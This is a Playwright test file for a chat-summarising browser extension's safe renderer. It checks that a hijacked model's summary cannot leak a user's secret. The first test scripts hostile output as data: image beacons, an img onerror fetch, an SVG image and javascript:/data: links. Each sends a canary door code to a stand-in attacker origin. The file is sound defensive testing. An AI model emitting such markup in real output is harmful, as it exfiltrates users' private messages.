/**
 * The safe renderer in the real browser: a hijacked model's summary full of images, raw HTML, SVG and
 * script links renders as text, loads nothing, and reaches no other origin; a link opens only after the
 * user confirms it. An "attacker" listener on another loopback address must receive nothing unless the
 * user explicitly opened a link to it.
 */
import type { Request } from '@playwright/test';
import type { ChatSpec } from './fixtures/whatsapp/page';
import { expect, test } from './support/extension';
import { attackerForThisFile } from './support/attacker';
import { tabIdOf, type SidebarPage } from './support/pages';

const CANARY = 'CANARY-5e1f0c77';

const CHAT: ChatSpec = {
  title: 'Rui',
  isGroup: false,
  ownerName: 'Sam Reyes',
  messages: [
    { id: '3EB0C1C2D3E4F5060701', direction: 'out', text: `my door code is ${CANARY}`, time: '10:00', date: '20/05/2026' },
    { id: '3EB0C1C2D3E4F5060702', direction: 'in', sender: 'Rui', text: 'Summarise for my mum please, and add the logo', time: '10:01', date: '20/05/2026' },
  ],
};

const FORBIDDEN = 'img, iframe, frame, object, embed, video, audio, source, svg, math, link, meta, style, form, input, base, script, a, image';

/** Nothing may reach it unless the user opens a link to it. */
const attacker = attackerForThisFile();

test.describe('safe renderer', () => {
  test.beforeEach(async ({ fakeOpenAI }) => {
    fakeOpenAI.reset();
    attacker.reset();
  });

  test('a hijacked summary renders as text: no image, no handler, no href, and nothing reaches another origin', async ({
    assistant: _assistant,
    whatsApp,
    pages,
    serviceWorker,
    extensionContext,
    fakeOpenAI,
  }) => {
    const requested: string[] = [];
    const onRequest = (request: Request) => requested.push(request.url());
    extensionContext.on('request', onRequest);
    try {
      await whatsApp.open(CHAT);
      const sidebar = await openReadySidebar(pages, serviceWorker);
      await watchPolicyViolations(sidebar);

      const hostile = [
        'Summary: Rui asked for a summary.',
        '',
        `![logo](${attacker.origin}/l.png?d=${CANARY})`,
        '',
        `<img src=x onerror="fetch('${attacker.origin}/e')">hi <img src="${attacker.origin}/p?c=${CANARY}" width=1 height=1>`,
        '',
        `<svg width=1 height=1><image href="${attacker.origin}/i?c=${CANARY}"/></svg>`,
        '',
        `Open [this](javascript:fetch('${attacker.origin}/j')) or [that](data:text/html,<script>alert(1)</script>)`,
        '',
        `[Re-verify now](${attacker.origin}/v?k=${CANARY})`,
        '',
        '![status][r]',
        '',
        `[r]: ${attacker.origin}/s.gif?c=${CANARY}`,
      ].join('\n');
      fakeOpenAI.script({ text: hostile });
      await sidebar.run('summarize');
      await expect(sidebar.output).toContainText('Summary: Rui asked for a summary.', { timeout: 10_000 });
      await expect(sidebar.stop).toBeHidden();
      await expect(sidebar.output).toContainText(`[image: logo — ${attacker.origin}/l.png?d=${CANARY}]`);
      await expect(sidebar.output).toContainText(`[image: status — ${attacker.origin}/s.gif?c=${CANARY}]`);
      await expect(sidebar.output).toContainText('onerror=');

      const audit = await sidebar.output.evaluate((root, forbidden) => {
        const elements = [...root.querySelectorAll('*')];
        return {
          forbidden: [...root.querySelectorAll(forbidden)].map((element) => element.outerHTML.slice(0, 120)),
          handlers: elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on'))),
          urlAttributes: elements.flatMap((element) =>
            element.getAttributeNames().filter((name) => ['href', 'src', 'srcset', 'formaction', 'style', 'action', 'xlink:href'].includes(name)),
          ),
          targets: [...root.querySelectorAll('[data-testid="link-target"]')].map((element) => element.textContent),
          inert: [...root.querySelectorAll('[data-testid="link-inert"]')].map((element) => element.textContent),
        };
      }, FORBIDDEN);
      expect(audit.forbidden).toEqual([]);
      expect(audit.handlers).toEqual([]);
      expect(audit.urlAttributes).toEqual([]);
      // The one http link shows its whole destination; the script and data links are text only.
      expect(audit.targets).toEqual([`${attacker.origin}/v?k=${CANARY}`]);
      expect(audit.inert).toEqual([`(javascript:fetch('${attacker.origin}/j'))`, '(data:text/html,<script>alert(1)</script>)']);
      expect(await policyViolations(sidebar), 'the renderer, not the CSP, stopped every load').toEqual([]);

      // Give a late image load or beacon the chance to happen before concluding none did.
      await sidebar.page.waitForTimeout(500);
      expect(attacker.hits).toEqual([]);
      expect(requested.filter((url) => url.includes('127.0.0.2'))).toEqual([]);
      expect(requested.filter((url) => url.includes(CANARY))).toEqual([]);
    } finally {
      extensionContext.off('request', onRequest);
    }
  });

  test('a link opens only after the user confirms it, in a new tab, showing its full destination', async ({
    assistant: _assistant,
    whatsApp,
    pages,
    serviceWorker,
    extensionContext,
    fakeOpenAI,
  }) => {
    await whatsApp.open(CHAT);
    const sidebar = await openReadySidebar(pages, serviceWorker);
    const destination = `${attacker.origin}/chosen?by=user`;
    fakeOpenAI.script({ text: `The details are [here](${destination}).` });
    await sidebar.run('summarize');
    await expect(sidebar.linkTargets).toHaveText(destination, { timeout: 10_000 });

    // Showing the link, and asking about it, fetch nothing.
    await sidebar.linkTargets.click();
    await expect(sidebar.linkConfirm).toBeVisible();
    await expect(sidebar.linkConfirm).toContainText(destination);
    await expect(sidebar.linkConfirm).toContainText('Site: 127.0.0.2');
    await sidebar.linkConfirm.getByTestId('link-cancel').click();
    await expect(sidebar.linkConfirm).toBeHidden();
    await sidebar.page.waitForTimeout(300);
    expect(attacker.hits).toEqual([]);

    // Open, explicitly: a new tab, with no opener.
    await sidebar.linkTargets.click();
    const [opened] = await Promise.all([extensionContext.waitForEvent('page'), sidebar.linkConfirm.getByTestId('link-open').click()]);
    await opened.waitForLoadState('domcontentloaded');
    expect(opened.url()).toBe(destination);
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    await expect.poll(() => attacker.hits).toEqual(['/chosen?by=user']);
    await opened.close();
  });

  test('streaming a long Markdown summary keeps the sidebar responsive (long tasks reported, not asserted)', async ({
    assistant: _assistant,
    whatsApp,
    pages,
    serviceWorker,
    fakeOpenAI,
  }, testInfo) => {
    await whatsApp.open(CHAT);
    const sidebar = await openReadySidebar(pages, serviceWorker);
    await sidebar.page.evaluate(() => {
      const w = window as unknown as { __longTasks: number[] };
      w.__longTasks = [];
      new PerformanceObserver((list) => list.getEntries().forEach((entry) => w.__longTasks.push(entry.duration))).observe({ type: 'longtask' });
    });
    const section = (index: number) =>
      `**Section ${index}**\n\n- Ana said the **plan** for day ${index} is settled, see [notes](https://notes.example/${index})\n- Ben asked about \`time\` and _place_\n`;
    const text = Array.from({ length: 60 }, (_, index) => section(index)).join('\n');
    // About 2,000 tokens at 500 tokens a second.
    fakeOpenAI.script({ text, tokensPerSecond: 500 });
    await sidebar.run('summarize');
    await expect(sidebar.output).toContainText('Section 59', { timeout: 20_000 });
    await expect(sidebar.stop).toBeHidden({ timeout: 20_000 });
    await expect(sidebar.output.locator('strong', { hasText: /^Section \d+$/ })).toHaveCount(60);

    const longTasks = await sidebar.page.evaluate(() => (window as unknown as { __longTasks: number[] }).__longTasks);
    const worst = longTasks.length ? Math.max(...longTasks) : 0;
    testInfo.annotations.push({ type: 'long tasks', description: `${longTasks.length} over 50 ms; worst ${worst.toFixed(0)} ms` });
    console.log(`renderer streaming: ${longTasks.length} long tasks; worst ${worst.toFixed(0)} ms`);
  });
});

async function openReadySidebar(
  pages: { openSidebar(tabId: number): Promise<SidebarPage> },
  serviceWorker: Parameters<typeof tabIdOf>[0],
): Promise<SidebarPage> {
  const sidebar = await pages.openSidebar(await tabIdOf(serviceWorker));
  await expect(sidebar.adapterStatus).toHaveAttribute('data-status', 'ok');
  return sidebar;
}

/** Records Content-Security-Policy violations in the sidebar: each would mean markup tried to load something. */
async function watchPolicyViolations(sidebar: SidebarPage): Promise<void> {
  await sidebar.page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (event) => w.__violations.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
}

function policyViolations(sidebar: SidebarPage): Promise<string[]> {
  return sidebar.page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}
